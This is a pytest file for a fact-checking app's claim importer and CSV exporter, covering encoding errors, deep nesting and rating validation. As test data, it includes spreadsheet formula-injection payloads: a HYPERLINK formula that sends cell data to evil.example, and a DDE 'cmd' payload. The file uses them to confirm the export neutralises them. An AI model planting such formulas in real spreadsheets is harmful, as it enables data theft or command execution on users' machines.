"""Import files as they come: a byte order mark is fine; a line that is not UTF-8, not valid
Unicode, nested too deep or rated off its scale is reported by number, the rest imported,
and the exit status says lines were rejected. CSV exports are safe to open in a spreadsheet."""
import csv
import io
import json

import flask_migrate
import pytest

from factcheck.services.exchange import formats
from tests.api.test_claimreview import review
from tests.db.conftest import empty_app  # noqa: F401  (a fresh database per test, both engines)

BOM = "\ufeff".encode()
VERDICT = {"publisher": {"name": "Desk", "site": "desk.example.org"}, "rating": "True"}


def invoke(app, *args):
    return app.test_cli_runner().invoke(args=list(args))


def texts(client) -> set[str]:
    return {claim["text"] for claim in client.get("/api/v1/claims", query_string={"limit": 100}).json["items"]}


def jsonl(*records) -> bytes:
    return b"".join(json.dumps(record).encode() + b"\n" for record in records)


@pytest.mark.parametrize("fmt, content", [
    ("jsonl", jsonl({"text": "Crime fell by half last year."})),
    ("csv", b"text,claimant\nCrime fell by half last year.,Mayor Smith\n"),
    ("liar", b"1.json\tfalse\tCrime fell by half last year.\tcrime\tmayor-smith\t\t\t\t0\t0\t0\t0\t0\t\n"),
])
def test_a_byte_order_mark_is_accepted(app, client, tmp_path, fmt, content):
    path = tmp_path / f"claims.{fmt}"
    path.write_bytes(BOM + content)
    result = invoke(app, "import-claims", "--format", fmt, str(path))
    assert result.exit_code == 0, result.output
    assert texts(client) == {"Crime fell by half last year."}


@pytest.mark.parametrize("fmt, lines", [
    ("jsonl", [json.dumps({"text": "Crime fell by half last year."}).encode(),
               '{"text": "Caf\xe9 owners pay less tax."}'.encode("latin-1"),
               json.dumps({"text": "Bridges are safe."}).encode()]),
    ("csv", [b"text", b"Crime fell by half last year.", "Caf\xe9 owners pay less tax.".encode("latin-1"),
             b"Bridges are safe."]),
    ("liar", [b"1.json\tfalse\tCrime fell by half last year.\t\t\t\t\t\t0\t0\t0\t0\t0\t",
              "2.json\tfalse\tCaf\xe9 owners pay less tax.\t\t\t\t\t\t0\t0\t0\t0\t0\t".encode("latin-1"),
              b"3.json\ttrue\tBridges are safe.\t\t\t\t\t\t0\t0\t0\t0\t0\t"]),
])
def test_a_line_that_is_not_utf8_is_rejected_by_number(app, client, tmp_path, fmt, lines):
    path = tmp_path / f"claims.{fmt}"
    path.write_bytes(b"\n".join(lines) + b"\n")
    result = invoke(app, "import-claims", "--format", fmt, str(path))
    assert result.exit_code == 1, result.output
    assert "rejected 1 lines" in result.stdout
    bad = 3 if fmt == "csv" else 2
    assert f"line {bad}: {{'text': ['Not valid Unicode" in result.stderr
    assert texts(client) == {"Crime fell by half last year.", "Bridges are safe."}


def test_jsonl_lines_with_lone_surrogates_deep_nesting_or_off_scale_ratings_are_rejected(app, client, tmp_path):
    path = tmp_path / "claims.jsonl"
    path.write_bytes(b"\n".join([
        b'{"text": "Crime fell by half \\udc00 last year."}',
        b'{"text": "A claim.", "claimant": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"text": "A claim.", "claimant": ' + b"[" * 40 + b"]" * 40 + b"}",
        json.dumps({"text": "Off the scale.", "verdicts": [{**VERDICT, "rating_value": 7, "best_rating": 5}]}).encode(),
        json.dumps({"text": "Bridges are safe.", "verdicts": [VERDICT]}).encode(),
    ]) + b"\n")
    result = invoke(app, "import-claims", str(path))
    assert result.exit_code == 1, result.output
    assert "1 created" in result.stdout and "rejected 4 lines" in result.stdout
    assert "line 1: {'text': ['Not valid Unicode" in result.stderr
    assert "line 2: not JSON this importer reads: nested too deeply" in result.stderr
    assert "line 3: {'claimant'" in result.stderr and "Nested deeper than 32 levels" in result.stderr
    assert "line 4: {'verdicts': {0: {'rating_value': ['Must not be above the best rating (5).']}}}" in result.stderr
    assert texts(client) == {"Bridges are safe."}


def test_a_claimreview_file_with_a_byte_order_mark_is_imported(app, client, tmp_path):
    path = tmp_path / "feed.json"
    path.write_bytes(BOM + json.dumps([review()], indent=1).encode())
    result = invoke(app, "import-claimreview", str(path))
    assert result.exit_code == 0, result.output
    assert "created 1" in result.output


def test_a_claimreview_file_with_bytes_that_are_not_utf8_names_their_lines(app, client, tmp_path):
    good = review(url="https://www.politifact.com/factchecks/2/", text="Bridges are safe, the mayor said.")
    bad = review(text="Caf\x00 owners pay less tax, the minister said.")
    text = json.dumps([good, bad], indent=1)
    path = tmp_path / "feed.json"
    path.write_bytes(text.encode().replace(b"Caf\\u0000", "Caf\xe9".encode("latin-1")))
    line = text.splitlines().index(next(line for line in text.splitlines() if "Caf" in line)) + 1
    result = invoke(app, "import-claimreview", str(path))
    assert result.exit_code == 1, result.output
    assert f"line {line}: not UTF-8 (byte 0xe9 at column" in result.stderr
    assert "created 1, updated 0, unchanged 0, rejected 1" in result.stdout
    assert "#1 at $[1] rejected: {'claimReviewed': ['Not valid Unicode" in result.stderr
    assert texts(client) == {"Bridges are safe, the mayor said."}


def test_a_claimreview_file_nested_too_deep_is_refused(app, tmp_path):
    path = tmp_path / "feed.json"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    result = invoke(app, "import-claimreview", str(path))
    assert result.exit_code == 1 and "nested deeper than 32 levels" in result.output


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2 is what the minister said",
            "-2+3=1, says the ad", "@SUM(A1:A9) costs nothing", "'=already quoted"]


def test_csv_export_neutralises_formulas_and_the_import_restores_them(app, client, auth, tmp_path,
                                                                      empty_app):  # noqa: F811
    for text in FORMULAS:
        response = client.post("/api/v1/claims", headers=auth, json={
            "text": text, "claimant": {"name": "=cmd|' /C calc'!A0"},
            "appearances": [{"url": "https://example.com/a", "quote": "@risky", "title": "-1"}]})
        assert response.status_code == 201, response.json
    path = tmp_path / "claims.csv"
    assert invoke(app, "export-claims", "--format", "csv", str(path)).exit_code == 0
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    # Written after a "'", which a spreadsheet shows as text; a plain number stays a number.
    assert {*(f"'{text}" for text in FORMULAS), "'=cmd|' /C calc'!A0", "'@risky", "-1"} <= set(cells)
    assert not any(cell[:1] in ("=", "+", "@", "\t") or cell.startswith("-2") for cell in cells), cells

    with empty_app.app_context():
        flask_migrate.upgrade()
        result = invoke(empty_app, "import-claims", "--format", "csv", str(path))
        assert result.exit_code == 0, result.output
        claims = empty_app.test_client().get("/api/v1/claims", query_string={"limit": 100}).json["items"]
    assert {claim["text"] for claim in claims} == set(FORMULAS)
    assert {claim["claimant"]["name"] for claim in claims} == {"=cmd|' /C calc'!A0"}
    assert {(a["quote"], a["title"]) for claim in claims for a in claim["appearances"]} == {("@risky", "-1")}


@pytest.mark.parametrize("cell", ["\tcmd", "\rcmd", "=1", "'=1", "''+1", "'plain", "-", "-1.5e3", "-1+2"])
def test_every_cell_reads_back_as_it_was_written(cell):
    file = io.StringIO(newline="")
    formats.write_csv(file, [(1, {"text": cell})])
    written = next(csv.DictReader(io.StringIO(file.getvalue(), newline="")))
    assert written["text"][:1] not in ("=", "+", "@", "\t", "\r") and not written["text"].startswith("-1+")
    ((_, record, _),) = formats.read_csv(io.StringIO(file.getvalue(), newline=""))
    assert record["text"] == cell
